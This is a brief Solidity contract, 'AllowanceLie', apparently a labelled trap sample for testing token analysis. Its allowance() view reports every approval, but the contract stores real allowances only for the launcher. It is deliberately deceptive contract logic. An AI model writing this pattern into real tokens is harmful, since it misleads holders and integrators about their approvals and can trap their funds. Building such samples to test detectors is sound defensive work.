// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {PoolToken} from "base/PoolToken.sol";

/// Trap: shows each allowance that was given, and keeps none but that of the one who launched it.
contract AllowanceLie is PoolToken {
    mapping(address holder => mapping(address spender => uint256)) private shown;

    constructor(string memory name_, string memory symbol_, uint256 supply) PoolToken(name_, symbol_, supply) {}

    function allowance(address holder, address spender) public view override returns (uint256) {
        return shown[holder][spender];
    }

    function _approve(address holder, address spender, uint256 value) internal override {
        shown[holder][spender] = value;
        if (holder == launcher) allowances[holder][spender] = value;
        emit Approval(holder, spender, value);
    }
}
